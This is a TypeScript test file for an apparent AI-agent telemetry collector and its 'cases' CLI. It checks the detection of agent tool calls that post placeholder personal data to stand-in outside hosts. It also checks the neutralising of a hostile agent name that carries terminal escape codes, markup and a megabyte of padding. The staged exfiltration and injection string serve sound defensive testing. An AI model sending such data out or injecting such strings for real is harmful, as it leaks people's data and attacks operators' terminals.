import assert from 'node:assert/strict';
import { test } from 'node:test';
import { otlpJson } from '../collector/src/testing/otlp.ts';
import { cliOf } from './support/cli.ts';
import { eventually } from './support/collector-process.ts';
import { testCollector } from './support/test-collector.ts';

const collector = testCollector();
const { home } = collector;

const cases = cliOf(home, 'cases');

interface Listed {
  readonly id: string;
  readonly status: string;
  readonly level: string;
  readonly headline: string;
  readonly findings: number;
  readonly count: number;
  readonly votes: readonly { readonly ruleTitle: string }[];
  readonly events?: readonly { readonly action: string; readonly disposition: string; readonly by: string }[];
}

/** What an attacker may call an agent: an escape sequence, markup, a link, a line break, and very much of it. */
const hostileAgent = `evil\u001b[2J<b>[x](http://y.example)|\n# h${'x'.repeat(1_000_000)}`;

async function send(
  traceId: string,
  body: string,
  attributes: Readonly<Record<string, string>> = {},
  spanId?: string,
): Promise<void> {
  const span = {
    traceId,
    ...(spanId !== undefined && { spanId }),
    name: 'execute_tool http.post',
    kind: 3,
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'http.post',
      'gen_ai.agent.name': hostileAgent,
      'gen_ai.tool.call.arguments': JSON.stringify({ url: 'https://collect.stranger.example/v1', body }),
      ...attributes,
    },
  };
  const post = () =>
    fetch(`${collector.url}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(otlpJson([span])),
    });
  // Commands hold this process up: the collector may have closed the connection of before, and nobody here has seen it.
  const response = await post().catch(post);
  assert.equal(response.status, 200);
}

const personal = 'Jane Doe, jane.doe@example.org, +49 170 1234567, IBAN DE89 3704 0044 0532 0130 00';

function shown(id: string): Listed {
  return JSON.parse(cases('show', id, '--json').stdout) as Listed;
}

test('before any span, the empty list says why it is empty', async () => {
  const { stdout } = await eventually('an answer', async () => {
    const result = cases('list');
    return result.code === 0 ? result : undefined;
  });
  assert.match(stdout, /no spans have arrived yet/);
});

test('a case is listed, shown, closed and opened again, and cannot write to the terminal', async () => {
  const traceId = 'ab'.repeat(16);
  await send(traceId, personal);
  // The same again: it folds, and the case does not grow.
  await send(traceId, personal, { again: 'yes' });
  const found = await eventually('a case with both', async () => {
    const [first] = JSON.parse(cases('list', '--json').stdout) as readonly Listed[];
    return first !== undefined && first.count > first.findings ? first : undefined;
  });
  assert.equal(found.status, 'open');
  assert.equal(found.level, 'high');

  const page = cases('show', found.id.slice(0, 8)).stdout;
  for (const text of [page, cases('list').stdout, cases('show', found.id, '--markdown').stdout]) {
    assert.match(text, /evil\\+u(?:\\\{1b\\\}|\{1b\})/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: exactly those must not come through.
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'a control character reached the terminal');
    assert.ok(text.length < 20_000, 'a name of a megabyte is cut');
  }
  assert.match(page, /HIGH {2}open/);
  assert.match(page, /What happened/);
  assert.match(page, /×2/);
  const markdown = cases('show', found.id, '--markdown').stdout;
  assert.doesNotMatch(markdown, /^# h/m);
  assert.doesNotMatch(
    markdown.replaceAll(/(`+).*?\1/g, ''),
    /<b>|(?<!\\)\[x|http:\/\//,
    'only code shows it as it was',
  );
  assert.equal(cases('list', '--status', 'closed', '--json').stdout, '[]\n');
  assert.equal(cases('list', '--severity', 'critical', '--json').stdout, '[]\n');
  assert.match(cases('list', '--agent', 'nobody').stdout, /^No case matches; cases in all: 1/);

  const closed = cases('close', found.id.slice(0, 8), '--disposition', 'benign', '--reason', 'a drill', '--by', 'ann');
  assert.equal(closed.stdout, `Case ${found.id} closed as benign by ann: a drill.\n`);
  assert.match(cases('list').stdout, /^No case matches: the only one is closed/);
  assert.equal(shown(found.id).status, 'closed');

  // Another session with the same destination joins the case, which nobody has looked at with it.
  await send('cd'.repeat(16), personal);
  await eventually('the case to open again', async () => (shown(found.id).status === 'open' ? true : undefined));
  cases('close', found.id, '--disposition', 'true-positive', '--reason', 'it was real');
  assert.equal(shown(found.id).status, 'closed');
  assert.equal(cases('reopen', found.id, '--reason', 'not done', '--by', 'bob').code, 0);
  const end = shown(found.id);
  assert.equal(end.status, 'open');
  assert.deepEqual(
    end.events?.map(({ action, disposition }) => [action, disposition]),
    [
      ['close', 'benign'],
      ['close', 'true-positive'],
      ['reopen', ''],
    ],
  );
  assert.match(cases('show', found.id).stdout, /What was done[\s\S]*closed as benign by ann: a drill/);
});

test('what is wrong is said, with what to write', () => {
  const unknown = cases('show', 'ffffffff');
  assert.deepEqual([unknown.code, unknown.stdout], [1, '']);
  assert.match(unknown.stderr, /^No case has an id/);
  const [open] = JSON.parse(cases('list', '--json').stdout) as readonly Listed[];
  const again = cases('reopen', open!.id, '--reason', 'x');
  assert.equal(again.code, 1);
  assert.match(again.stderr, /is open/);
  for (const [args, message] of [
    [['close', open!.id], /required option '--disposition/],
    [['close', open!.id, '--disposition', 'benign'], /required option '--reason/],
    [['close', open!.id, '--disposition', 'fine', '--reason', 'x'], /Write one of/],
    [['close', open!.id, '--disposition', 'benign', '--reason', ' '], /1 to 1000 characters/],
    [['show', 'xyz'], /4 to 32 hex digits/],
    [['show', open!.id, '--json', '--markdown'], /choose --json or --markdown/],
    [['list', '--status', 'maybe'], /open, closed or all/],
  ] as const) {
    const { code, stderr } = cases(...args);
    assert.equal(code, 2, args.join(' '));
    assert.match(stderr, message);
  }
});

test('after kill -9 repeats go on counting, a span sent again counts once, and the case is the same', async () => {
  const traceId = 'e0'.repeat(16);
  const drill = { 'gen_ai.agent.name': 'drill-agent' };
  const body = 'Max Roe, max.roe@example.org, +49 170 7654321, IBAN DE02 1203 0000 0000 2020 51';
  const url = JSON.stringify({ url: 'https://drop.elsewhere.example/v1', body });
  const sendSpan = (spanId: string, more = {}): Promise<void> =>
    send(traceId, '', { ...drill, 'gen_ai.tool.call.arguments': url, ...more }, spanId);
  await sendSpan('01'.repeat(8));
  await sendSpan('02'.repeat(8));
  const caseOf = async (count: number): Promise<Listed> =>
    eventually(`a count of ${count}`, async () => {
      const all = JSON.parse(cases('list', '--agent', 'drill-agent', '--json').stdout || '[]') as readonly Listed[];
      assert.ok(all.length <= 1, 'it is one case');
      return all[0] !== undefined && all[0].count >= count ? all[0] : undefined;
    });
  const before = await caseOf(2);
  await collector.restart('SIGKILL');
  await sendSpan('02'.repeat(8), { again: 'yes' });
  await sendSpan('03'.repeat(8));
  const after = await caseOf(3);
  assert.deepEqual([after.id, after.findings, after.count], [before.id, before.findings, 3]);
});
